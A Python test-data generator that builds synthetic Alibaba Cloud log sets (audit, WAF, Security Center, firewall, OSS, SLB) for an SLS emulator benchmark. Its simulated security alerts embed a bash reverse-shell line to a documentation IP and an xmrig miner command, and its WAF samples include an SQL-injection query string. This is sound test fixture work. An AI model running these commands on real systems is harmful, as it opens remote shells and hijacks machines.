"""Deterministic generator of realistic SLS data sets.

Kinds:
    actiontrail  ActionTrail audit events: ~20 fields, ~1 KB, topic ``actiontrail_audit_event``, a JSON ``event`` field
    oss_access   OSS access logs (topic ``oss_access_log``)
    slb_access   SLB layer-7 access logs (topic ``slb_layer7_access_log``)
    mixed        the three kinds in turn, plus non-UTF-8 values and very large events

Security sources, with the field names of Alibaba's log field references (values synthetic):
    actiontrail_json    ActionTrail as a trail delivers it (shape A): topic ``actiontrail_audit_event``, only ``event``
                        (the ~1.4 KB record as JSON text, with requestParameters, responseElements, sessionContext)
    actiontrail_legacy  the legacy shape B: topic ``actiontrail_event``, ``event`` and ``owner_id``
    actiontrail_flat    shape C: no topic, flattened ``event.*`` string keys with ``event.requestParameterJson``
    waf                 WAF 3.0 access and protection logs (topic ``waf_access_log``; ``final_*`` on blocked requests)
    sas_alert           Security Center alerts (topic ``sas-security-log``)
    cloudfirewall       Cloud Firewall Internet traffic logs (topic ``cloudfirewall_access_log``)
    app_log             a plain application log that happens to have an ``event`` field (topic ``app_log``)
    soc_mixed           all of the above and OSS and SLB, group by group

Scale:
    unique_keys         about 1,000 keys per log, none of which occurs in any other log, as producers that put ids or
                        timestamps into key names write (``event_id`` first, topic ``dynamic_keys``)


Every log carries an event id that is unique within a ``DataSpec`` (and across specs with different
kind/seed/id_prefix), so tests can count missing and duplicated events exactly: ``spec.event_ids()`` is the
expected set and costs no generation. It is the content key ``event_id``, except in the ActionTrail kinds that
carry only the record (``ACTIONTRAIL_KINDS``), where it is the record's ``eventId``; ``log_id`` reads either.

Two ways to load: ``load_direct`` (serialized LogGroups straight into ``SlsEmulator.put_log_groups``,
fast enough for the benchmark's hundreds of megabytes) and ``load_with_sdk`` (the official SDK's
``put_logs``, the way real data arrives).
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import TYPE_CHECKING, Iterator, List, Optional, Sequence, Set, Tuple, Union

from .protobuf import encode_log, encode_log_group

if TYPE_CHECKING:  # pragma: no cover
    from .server import SlsEmulator

Value = Union[str, bytes]

KINDS = ("actiontrail", "oss_access", "slb_access", "mixed", "actiontrail_json", "actiontrail_legacy",
         "actiontrail_flat", "waf", "sas_alert", "cloudfirewall", "app_log", "soc_mixed", "unique_keys")
TOPICS = {"actiontrail": "actiontrail_audit_event", "oss_access": "oss_access_log",
          "slb_access": "slb_layer7_access_log", "actiontrail_json": "actiontrail_audit_event",
          "actiontrail_legacy": "actiontrail_event", "actiontrail_flat": "", "waf": "waf_access_log",
          "sas_alert": "sas-security-log", "cloudfirewall": "cloudfirewall_access_log", "app_log": "app_log",
          "unique_keys": "dynamic_keys"}
# Kinds whose logs are ActionTrail records (the id is the record's eventId).
ACTIONTRAIL_KINDS = ("actiontrail_json", "actiontrail_legacy", "actiontrail_flat")

_REGIONS = ("cn-hangzhou", "cn-shanghai", "cn-beijing", "ap-southeast-1", "eu-central-1", "us-west-1")
_SERVICES = (("Ecs", "ecs.aliyuncs.com", ("DescribeInstances", "StartInstance", "StopInstance", "RunInstances")),
             ("Oss", "oss.aliyuncs.com", ("PutObject", "GetBucketAcl", "DeleteObject", "ListObjects")),
             ("Ram", "ram.aliyuncs.com", ("CreateUser", "AttachPolicyToUser", "ListUsers", "CreateAccessKey")),
             ("Sls", "log.aliyuncs.com", ("PullLogs", "CreateLogstore", "GetCursor", "Heartbeat")),
             ("Rds", "rds.aliyuncs.com", ("DescribeDBInstances", "ModifySecurityIps", "CreateBackup")))
_USERS = ("alice", "bob", "carol", "dave", "erin", "ops-bot", "ci-deployer", "auditor")
_IDENTITY_TYPES = ("ram-user", "assumed-role", "root-account", "system")
_AGENTS = ("aliyun-cli/3.0.190", "AlibabaCloud (Linux; x86_64) Python/3.11 Core/2.13 python-requests/2.31",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
           "Terraform/1.6.6 terraform-provider-alicloud/1.214.0", "console.aliyun.com")
_ERRORS = (("", ""), ("", ""), ("", ""), ("", ""), ("Forbidden.RAM", "User not authorized to operate on the specified resource."),
           ("InvalidParameter", "The specified parameter is invalid."))
_BUCKETS = ("prod-assets", "backup-archive", "logs-raw", "static-web", "ml-datasets")
_OSS_OPS = (("GetObject", "GET"), ("PutObject", "PUT"), ("HeadObject", "HEAD"), ("DeleteObject", "DELETE"),
            ("ListObjects", "GET"))
_HTTP_STATUS = ("200", "200", "200", "200", "206", "304", "403", "404", "500")
_URIS = ("/", "/api/v1/orders", "/api/v1/users/42", "/static/app.js", "/healthz", "/login?next=%2Fhome",
         "/search?q=%E6%97%A5%E5%BF%97")
_WAF_RULES = (("block", "waf", "111354", "sqli"), ("block", "waf", "113100", "xss"),
              ("captcha", "cc", "200501", "custom"), ("js", "antiscan", "300233", "dirscan"),
              ("block", "blacklist", "401120", "blacklist"))
_WAF_PATHS = ("/", "/login", "/api/v1/orders", "/wp-login.php", "/search", "/admin/config.php", "/static/app.js")
# (level, name, data_source): levels serious/suspicious/remind as Security Center names them.
_SAS_ALERTS = (("serious", "Reverse Shell", "aegis_suspicious_event"),
               ("suspicious", "Unusual Logon", "aegis_login_log"),
               ("remind", "Suspicious Process Execution", "aegis_suspicious_event"),
               ("serious", "Mining Program", "aegis_suspicious_file_v2"),
               ("suspicious", "Webshell", "aegis_webshell"))
_FIREWALL_APPS = (("HTTPS", "443", "tcp"), ("HTTP", "80", "tcp"), ("SSH", "22", "tcp"), ("DNS", "53", "udp"),
                  ("Unknown", "3389", "tcp"))
UNIQUE_KEYS_PER_LOG = 1000
_LARGE_BLOCK = ("The quick brown fox jumps over the lazy dog; \u65e5\u5fd7\u670d\u52a1 ") * 64


@dataclass(frozen=True)
class DataSpec:
    """A deterministic data set.

    Attributes:
        kind: one of KINDS.
        seed: random seed; the same spec always yields the same bytes.
        event_count: number of logs.
        logs_per_group: logs per LogGroup (the last group may hold fewer).
        start_time: unix seconds of the first log; times advance one second per ``events_per_second``.
        events_per_second: logs sharing one second.
        id_prefix: prepended to every event_id (distinct loads into one logstore).
        non_utf8_every: every Nth log gets a ``raw_payload`` value that is not valid UTF-8 (0 = never).
        large_every: every Nth log gets a ``large_blob`` value of ``large_size`` bytes (0 = never).
        large_size: size of the large value in bytes.
        zero_ns_every: every Nth log has no nanosecond part (0 = never).
    """

    kind: str = "actiontrail"
    seed: int = 1
    event_count: int = 1000
    logs_per_group: int = 10
    start_time: int = 1_700_000_000
    events_per_second: int = 10
    id_prefix: str = ""
    non_utf8_every: int = 0
    large_every: int = 0
    large_size: int = 256 * 1024
    zero_ns_every: int = 20

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError("kind must be one of %s" % (KINDS,))
        if self.logs_per_group < 1 or self.event_count < 0:
            raise ValueError("logs_per_group must be >= 1 and event_count >= 0")

    @property
    def group_count(self) -> int:
        return -(-self.event_count // self.logs_per_group)

    def event_id(self, index: int) -> str:
        """The event_id of the index-th log."""
        return "%s%s-%d-%08d" % (self.id_prefix, self.kind, self.seed, index)

    def event_ids(self) -> Set[str]:
        """Every event_id of the data set (computed, nothing is generated)."""
        return {self.event_id(i) for i in range(self.event_count)}


def mixed_spec(seed: int = 1, event_count: int = 1000, **overrides: object) -> DataSpec:
    """A ``mixed`` spec with non-UTF-8 values and very large events switched on."""
    values = {"kind": "mixed", "seed": seed, "event_count": event_count, "non_utf8_every": 37,
              "large_every": 400}
    values.update(overrides)
    return DataSpec(**values)  # type: ignore[arg-type]


def spec_for_bytes(total_bytes: int, kind: str = "actiontrail", seed: int = 1, **overrides: object) -> DataSpec:
    """A spec whose serialized size is close to ``total_bytes`` (measured on a sample)."""
    sample = DataSpec(kind=kind, seed=seed, event_count=200, **overrides)  # type: ignore[arg-type]
    per_event = sum(len(g) for g in generate_log_groups(sample)) / sample.event_count
    return DataSpec(kind=kind, seed=seed, event_count=max(1, int(total_bytes / per_event)),
                    **overrides)  # type: ignore[arg-type]


@dataclass
class GeneratedLog:
    time: int
    time_ns: int
    contents: List[Tuple[str, Value]]


@dataclass
class GeneratedGroup:
    topic: str
    source: str
    tags: List[Tuple[str, str]]
    logs: List[GeneratedLog]

    def encode(self) -> bytes:
        """Serialize as a LogGroup protobuf."""
        return encode_log_group([encode_log(log.time, log.contents, log.time_ns) for log in self.logs],
                                self.topic, self.source, self.tags)


def _ip(rng: random.Random) -> str:
    return "%d.%d.%d.%d" % (rng.choice((10, 47, 101, 121, 192)), rng.randrange(256), rng.randrange(256),
                            rng.randrange(1, 255))


def _hex(rng: random.Random, digits: int) -> str:
    return "%0*X" % (digits, rng.getrandbits(digits * 4))


def _iso(when: int, ms: int) -> str:
    days, rest = divmod(when, 86400)
    hours, rest = divmod(rest, 3600)
    minutes, seconds = divmod(rest, 60)
    # civil-from-days (Howard Hinnant), avoids datetime in the hot loop
    z = days + 719468
    era = z // 146097
    doe = z - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    day = doy - (153 * mp + 2) // 5 + 1
    month = mp + 3 if mp < 10 else mp - 9
    year = yoe + era * 400 + (1 if month <= 2 else 0)
    return "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ" % (year, month, day, hours, minutes, seconds, ms)


def _api_call(rng: random.Random) -> Tuple[str, str, str, str, str, str, str, str]:
    """Who called which API where: service, endpoint, action, region, user, identity type, account, principal."""
    service, endpoint, actions = rng.choice(_SERVICES)
    action = rng.choice(actions)
    region = rng.choice(_REGIONS)
    user = rng.choice(_USERS)
    identity = rng.choice(_IDENTITY_TYPES)
    account = "1%015d" % rng.randrange(10 ** 15)
    principal = "2%017d" % rng.randrange(10 ** 17)
    return service, endpoint, action, region, user, identity, account, principal


def _actiontrail(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    service, endpoint, action, region, user, identity, account, principal = _api_call(rng)
    source_ip = _ip(rng)
    agent = rng.choice(_AGENTS)
    request_id = "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))
    error_code, error_message = rng.choice(_ERRORS)
    event_time = _iso(when, rng.randrange(1000))
    resource = "acs:%s:%s:%s:instance/i-%s" % (service.lower(), region, account, _hex(rng, 20).lower())
    event = {
        "eventId": event_id, "eventVersion": 1, "eventSource": endpoint, "eventName": action,
        "eventType": "ApiCall", "eventTime": event_time, "acsRegion": region, "requestId": request_id,
        "serviceName": service, "sourceIpAddress": source_ip, "userAgent": agent,
        "userIdentity": {"type": identity, "principalId": principal, "accountId": account, "userName": user},
        "requestParameters": {"RegionId": region, "PageSize": rng.choice((10, 50, 100))},
        "resourceName": resource,
    }
    if error_code:
        event["errorCode"] = error_code
        event["errorMessage"] = error_message
    return [
        ("event_id", event_id),
        ("event.eventId", event_id),
        ("event.eventName", action),
        ("event.eventSource", endpoint),
        ("event.eventTime", event_time),
        ("event.eventType", "ApiCall"),
        ("event.eventVersion", "1"),
        ("event.acsRegion", region),
        ("event.requestId", request_id),
        ("event.serviceName", service),
        ("event.sourceIpAddress", source_ip),
        ("event.userAgent", agent),
        ("event.userIdentity.type", identity),
        ("event.userIdentity.accountId", account),
        ("event.userIdentity.principalId", principal),
        ("event.userIdentity.userName", user),
        ("event.errorCode", error_code),
        ("event.errorMessage", error_message),
        ("event", json.dumps(event, separators=(",", ":"))),
    ]


def _iso_offset(when: int, hours: int) -> str:
    """``2025-03-04T09:02:03+08:00``: the local time with its offset, as WAF and SLB write ``time``."""
    return "%s%+03d:00" % (_iso(when + hours * 3600, 0)[:19], hours)


def _actiontrail_record(rng: random.Random, event_id: str, when: int) -> dict:
    """A realistic ActionTrail record (field reference: ActionTrail event structure), about 1.4 KB as JSON."""
    service, endpoint, action, region, user, identity, account, principal = _api_call(rng)
    request_id = "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))
    error_code, error_message = rng.choice(_ERRORS)
    event_time = _iso(when, rng.randrange(1000))
    instance = "i-" + _hex(rng, 20).lower()
    write = not action.startswith(("Describe", "List", "Get"))
    record = {
        "eventId": event_id, "eventVersion": "1", "eventSource": endpoint, "eventName": action,
        "eventType": "ApiCall", "eventCategory": "Management", "eventRW": "Write" if write else "Read",
        "eventTime": event_time, "acsRegion": region, "requestId": request_id, "apiVersion": "2014-05-26",
        "serviceName": service, "sourceIpAddress": _ip(rng), "userAgent": rng.choice(_AGENTS),
        "isGlobal": False, "recipientAccountId": account,
        "userIdentity": {
            "type": identity, "principalId": principal, "accountId": account,
            "userName": user if identity != "assumed-role" else "OpsRole:%s-session" % user,
            "accessKeyId": ("STS." if identity == "assumed-role" else "LTAI") + _hex(rng, 20),
            "sessionContext": {"attributes": {"mfaAuthenticated": rng.choice(("true", "false")),
                                              "creationDate": _iso(when - rng.randrange(3600), 0)[:19] + "Z"}}},
        "requestParameters": {"RegionId": region, "InstanceId": instance, "PageSize": rng.choice((10, 50, 100)),
                              "ClientToken": _hex(rng, 32).lower(), "AcceptLanguage": "en-US"},
        "responseElements": {"RequestId": request_id, "TotalCount": rng.randrange(500),
                             "Instances": [{"InstanceId": instance, "Status": "Running", "ZoneId": region + "-b"}]},
        "referencedResources": {"ACS::%s::Instance" % service.upper(): [instance]},
        "additionalEventData": {"CallbackUrl": "https://%s.console.aliyun.com/" % service.lower()},
    }
    if error_code:
        record["errorCode"] = error_code
        record["errorMessage"] = error_message
    return record


def _actiontrail_json(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    return [("event", json.dumps(_actiontrail_record(rng, event_id, when), separators=(",", ":")))]


def _actiontrail_legacy(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    record = _actiontrail_record(rng, event_id, when)
    return [("event", json.dumps(record, separators=(",", ":"))), ("owner_id", record["recipientAccountId"])]


def _flatten(prefix: str, value: object, out: List[Tuple[str, Value]]) -> None:
    if isinstance(value, dict):
        for key, item in value.items():
            _flatten(prefix + "." + key, item, out)
    elif isinstance(value, bool):  # SLS stores strings: shape C booleans arrive as "true"/"false"
        out.append((prefix, "true" if value else "false"))
    elif isinstance(value, list):
        out.append((prefix, json.dumps(value, separators=(",", ":"))))
    else:
        out.append((prefix, str(value)))


def _actiontrail_flat(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    record = _actiontrail_record(rng, event_id, when)
    parameters = record.pop("requestParameters")
    record.pop("responseElements")
    contents: List[Tuple[str, Value]] = []
    _flatten("event", record, contents)
    contents.append(("event.requestParameterJson", json.dumps(parameters, separators=(",", ":"))))
    return contents


def _waf(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    """WAF 3.0 log fields (field reference: WAF log fields); final_* only when a rule acted on the request."""
    client = _ip(rng)
    host = rng.choice(("shop.example.com", "api.example.com", "www.example.com"))
    path = rng.choice(_WAF_PATHS)
    acted = rng.random() < 0.35
    contents: List[Tuple[str, Value]] = [
        ("event_id", event_id), ("time", _iso_offset(when, 8)), ("host", host), ("matched_host", host),
        ("real_client_ip", client), ("remote_addr", client), ("remote_port", str(rng.randrange(1024, 65535))),
        ("request_method", rng.choice(("GET", "GET", "POST"))), ("request_path", path),
        ("querystring", rng.choice(("", "id=1%27%20or%201=1--", "q=shoes", "redirect=%2Fhome"))),
        ("https", rng.choice(("true", "false"))), ("server_protocol", "HTTP/1.1"), ("dst_port", "443"),
        ("http_user_agent", rng.choice(_AGENTS)), ("http_referer", rng.choice(("-", "https://www.example.com/"))),
        ("http_x_forwarded_for", client), ("content_type", "application/x-www-form-urlencoded"),
        ("request_length", str(rng.randrange(200, 4000))), ("request_time_msec", str(rng.randrange(1, 900))),
        ("request_traceid", _hex(rng, 30).lower()), ("region", "cn"), ("user_id", "1%015d" % rng.randrange(10 ** 15)),
    ]
    if acted:
        action, plugin, rule_id, rule_type = rng.choice(_WAF_RULES)
        contents += [("status", "405" if action == "block" else "200"), ("body_bytes_sent", "0"),
                     ("final_action", action), ("final_plugin", plugin), ("final_rule_id", rule_id),
                     ("final_rule_type", rule_type), ("upstream_status", "-")]
    else:
        status = rng.choice(_HTTP_STATUS)
        contents += [("status", status), ("body_bytes_sent", str(rng.randrange(0, 100_000))),
                     ("upstream_addr", _ip(rng) + ":443"), ("upstream_status", status)]
    return contents


def _sas_alert(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    """Security Center alert log fields (field reference: Security Center logs, security alert logs)."""
    level, name, source = rng.choice(_SAS_ALERTS)
    detail = {"instance_id": "i-" + _hex(rng, 20).lower(), "internet_ip": _ip(rng),
              "intranet_ip": "172.16.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)),
              "cmdline": rng.choice(("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                                     "/tmp/.x/xmrig -o pool.example:3333", "sshd")),
              "user": rng.choice(("root", "www-data", "admin"))}
    return [
        ("event_id", event_id), ("data_source", source), ("level", level), ("name", name),
        ("op", rng.choice(("new", "dealing"))), ("status", rng.choice(("1", "2", "8"))),
        ("uuid", "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))),
        ("detail", json.dumps(detail, separators=(",", ":"))), ("unique_info", _hex(rng, 32).lower()),
    ]


def _cloudfirewall(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    """Cloud Firewall Internet firewall traffic log fields (field reference: Cloud Firewall log fields)."""
    app, port, protocol = rng.choice(_FIREWALL_APPS)
    inbound = rng.random() < 0.6
    packets_in, packets_out = rng.randrange(1, 400), rng.randrange(1, 400)
    bytes_in, bytes_out = packets_in * rng.randrange(60, 1500), packets_out * rng.randrange(60, 1500)
    return [
        ("event_id", event_id), ("log_type", "internet_log"), ("aliuid", "1%015d" % rng.randrange(10 ** 15)),
        ("src_ip", _ip(rng)), ("src_port", str(rng.randrange(1024, 65535))), ("dst_ip", _ip(rng)), ("dst_port", port),
        ("ip_protocol", protocol), ("app_name", app), ("direction", "in" if inbound else "out"),
        ("rule_result", rng.choice(("pass", "pass", "pass", "drop", "alert"))),
        ("acl_rule_id", "%s-%s-%s-%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 4), _hex(rng, 4), _hex(rng, 12))),
        ("rule_source", rng.choice(("1", "2"))), ("start_time", str(when)),
        ("end_time", str(when + rng.randrange(1, 60))),
        ("in_packet_count", str(packets_in)), ("in_packet_bytes", str(bytes_in)),
        ("out_packet_count", str(packets_out)), ("out_packet_bytes", str(bytes_out)),
        ("total_packet_bytes", str(bytes_in + bytes_out)), ("region_id", rng.choice(_REGIONS)),
        ("country_id", rng.choice(("CN", "US", "DE", "SG", "YY"))), ("domain", rng.choice(("", "example.com"))),
    ]


def _app_log(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    """An application's own log whose ``event`` field has nothing to do with ActionTrail."""
    return [("event_id", event_id), ("level", rng.choice(("INFO", "WARN", "ERROR"))),
            ("event", rng.choice(("user_login", "order_created", "{\"kind\":\"cache_miss\"}"))),
            ("message", "request handled in %d ms" % rng.randrange(1, 900))]


def _unique_keys(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    """``UNIQUE_KEYS_PER_LOG`` keys named after this log's serial, so no key sequence (nor key) ever repeats."""
    serial = event_id.rsplit("-", 1)[1]
    values = rng.getrandbits(20 * UNIQUE_KEYS_PER_LOG).to_bytes(UNIQUE_KEYS_PER_LOG * 20 // 8, "big").hex()
    contents: List[Tuple[str, Value]] = [("event_id", event_id)]
    contents += [("m%s_%03d" % (serial, number), values[number * 5:number * 5 + 5])
                 for number in range(UNIQUE_KEYS_PER_LOG - 1)]
    return contents


def _oss_access(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    operation, method = rng.choice(_OSS_OPS)
    bucket = rng.choice(_BUCKETS)
    status = rng.choice(_HTTP_STATUS)
    size = rng.randrange(0, 50_000_000)
    return [
        ("event_id", event_id), ("time", _iso(when, rng.randrange(1000))), ("bucket", bucket),
        ("bucket_location", "oss-" + rng.choice(_REGIONS)), ("client_ip", _ip(rng)),
        ("content_length_in", str(size if method == "PUT" else 0)),
        ("content_length_out", str(size if method == "GET" else 0)),
        ("host", "%s.oss-cn-hangzhou.aliyuncs.com" % bucket), ("http_method", method), ("http_status", status),
        ("http_type", rng.choice(("http", "https"))), ("object", "data/%s/part-%05d.parquet" % (_hex(rng, 6), rng.randrange(99999))),
        ("object_size", str(size)), ("operation", operation), ("owner_id", "1%015d" % rng.randrange(10 ** 15)),
        ("referer", rng.choice(("", "https://console.aliyun.com/"))), ("request_id", _hex(rng, 24)),
        ("request_length", str(rng.randrange(200, 4000))), ("response_time", str(rng.randrange(1, 3000))),
        ("server_cost_time", str(rng.randrange(1, 800))), ("user_agent", rng.choice(_AGENTS)),
        ("sync_request", rng.choice(("", "cdn"))),
    ]


def _slb_access(rng: random.Random, event_id: str, when: int) -> List[Tuple[str, Value]]:
    status = rng.choice(_HTTP_STATUS)
    request_time = rng.random() * 2
    return [
        ("event_id", event_id), ("time", _iso(when, rng.randrange(1000))), ("slbid", "lb-" + _hex(rng, 20).lower()),
        ("client_ip", _ip(rng)), ("client_port", str(rng.randrange(1024, 65535))),
        ("request_method", rng.choice(("GET", "GET", "POST", "PUT", "DELETE"))), ("request_uri", rng.choice(_URIS)),
        ("server_protocol", rng.choice(("HTTP/1.1", "HTTP/2.0"))), ("status", status),
        ("body_bytes_sent", str(rng.randrange(0, 200_000))), ("request_length", str(rng.randrange(100, 3000))),
        ("request_time", "%.3f" % request_time), ("upstream_addr", _ip(rng) + ":8080"),
        ("upstream_response_time", "%.3f" % (request_time * 0.9)), ("upstream_status", status),
        ("http_host", "shop.example.com"), ("http_user_agent", rng.choice(_AGENTS)),
        ("http_x_forwarded_for", _ip(rng)), ("scheme", rng.choice(("http", "https"))),
        ("ssl_protocol", "TLSv1.2"), ("vip_addr", _ip(rng)), ("tcpinfo_rtt", str(rng.randrange(50, 90000))),
    ]


_BUILDERS = {"actiontrail": _actiontrail, "oss_access": _oss_access, "slb_access": _slb_access,
             "actiontrail_json": _actiontrail_json, "actiontrail_legacy": _actiontrail_legacy,
             "actiontrail_flat": _actiontrail_flat, "waf": _waf, "sas_alert": _sas_alert,
             "cloudfirewall": _cloudfirewall, "app_log": _app_log, "unique_keys": _unique_keys}
_MIXED_ORDER = ("actiontrail", "oss_access", "slb_access")
SOC_MIXED_ORDER = ("actiontrail_json", "waf", "oss_access", "sas_alert", "slb_access", "cloudfirewall",
                   "actiontrail_legacy", "app_log", "actiontrail_flat")


def log_id(contents: Sequence[Tuple[str, Value]]) -> str:
    """The event id of a generated log: ``event_id``, else the ActionTrail record's ``eventId`` (JSON or flattened)."""
    values = dict(contents)
    if "event_id" in values:
        return str(values["event_id"])
    if "event" in values:
        return json.loads(values["event"])["eventId"]
    return str(values["event.eventId"])


def group_kind(spec: DataSpec, group_index: int) -> str:
    """The kind of the group_index-th group of a data set (mixed kinds cycle through their members)."""
    if spec.kind == "mixed":
        return _MIXED_ORDER[group_index % len(_MIXED_ORDER)]
    if spec.kind == "soc_mixed":
        return SOC_MIXED_ORDER[group_index % len(SOC_MIXED_ORDER)]
    return spec.kind


def generate(spec: DataSpec) -> Iterator[GeneratedGroup]:
    """Yield the data set's log groups as structures, in order."""
    rng = random.Random("%s/%d" % (spec.kind, spec.seed))
    index = 0
    group_index = 0
    while index < spec.event_count:
        kind = group_kind(spec, group_index)
        build = _BUILDERS[kind]
        source = _ip(rng)
        host = "host-%02d.%s" % (rng.randrange(32), rng.choice(_REGIONS))
        logs = []
        for _ in range(min(spec.logs_per_group, spec.event_count - index)):
            when = spec.start_time + index // spec.events_per_second
            contents = build(rng, spec.event_id(index), when)
            position = index + 1
            if spec.non_utf8_every and position % spec.non_utf8_every == 0:
                contents.append(("raw_payload", b"\xff\xfe bad \xc3\x28 utf8 \x80" + index.to_bytes(4, "big")))
            if spec.large_every and position % spec.large_every == 0:
                blob = (_LARGE_BLOCK * (spec.large_size // len(_LARGE_BLOCK) + 1))[:spec.large_size]
                contents.append(("large_blob", blob))
            zero_ns = spec.zero_ns_every and position % spec.zero_ns_every == 0
            logs.append(GeneratedLog(when, 0 if zero_ns else rng.randrange(1, 1_000_000_000), contents))
            index += 1
        tags = [("__hostname__", host), ("__pack_id__", "%X-%X" % (spec.seed, group_index)),
                ("__path__", "/var/log/%s.log" % kind)]
        yield GeneratedGroup(TOPICS[kind], source, tags, logs)
        group_index += 1


def generate_log_groups(spec: DataSpec) -> Iterator[bytes]:
    """Yield the data set as serialized LogGroups, in order."""
    for group in generate(spec):
        yield group.encode()


def load_direct(emulator: "SlsEmulator", project: str, logstore: str, spec: DataSpec,
                shard_ids: Optional[Sequence[int]] = None, receive_time: Optional[int] = None,
                batch: int = 256) -> Set[str]:
    """Load a data set straight into the emulator, spreading groups round-robin over shards.

    Arguments:
        emulator: a started or unstarted SlsEmulator.
        project: existing project.
        logstore: existing logstore.
        spec: the data set.
        shard_ids: target shards; default every readwrite shard.
        receive_time: server receive time stamped on the groups (default now).
        batch: groups appended per call (keeps the state lock short).

    Returns:
        The expected event_id set (``spec.event_ids()``).
    """
    if shard_ids is None:
        shard_ids = [s["shardID"] for s in emulator.shards(project, logstore) if s["status"] == "readwrite"]
    pending: dict = {shard_id: [] for shard_id in shard_ids}
    for number, group in enumerate(generate_log_groups(spec)):
        target = shard_ids[number % len(shard_ids)]
        pending[target].append(group)
        if len(pending[target]) >= batch:
            emulator.put_log_groups(project, logstore, target, pending[target], receive_time)
            pending[target] = []
    for shard_id, groups in pending.items():
        if groups:
            emulator.put_log_groups(project, logstore, shard_id, groups, receive_time)
    return spec.event_ids()


def load_with_sdk(client: object, project: str, logstore: str, spec: DataSpec,
                  hash_keys: Optional[Sequence[str]] = None, compress: bool = True) -> Set[str]:
    """Load a data set with the official SDK's ``put_logs``, one request per log group.

    The SDK replaces a zero nanosecond part with the current one; everything else arrives as generated.

    Arguments:
        client: an ``aliyun.log.LogClient``.
        project: existing project.
        logstore: existing logstore.
        spec: the data set.
        hash_keys: if given, group i goes to ``/shards/route?key=hash_keys[i % len]``; else ``/shards/lb``.
        compress: lz4 bodies (the SDK default) or uncompressed.

    Returns:
        The expected event_id set.
    """
    from aliyun.log import LogItem, PutLogsRequest

    for number, group in enumerate(generate(spec)):
        items = [LogItem(timestamp=log.time, contents=list(log.contents), time_nano_part=log.time_ns or None)
                 for log in group.logs]
        request = PutLogsRequest(project, logstore, group.topic, group.source, items,
                                 hashKey=hash_keys[number % len(hash_keys)] if hash_keys else None,
                                 compress=compress, logtags=list(group.tags))
        client.put_logs(request)  # type: ignore[attr-defined]
    return spec.event_ids()
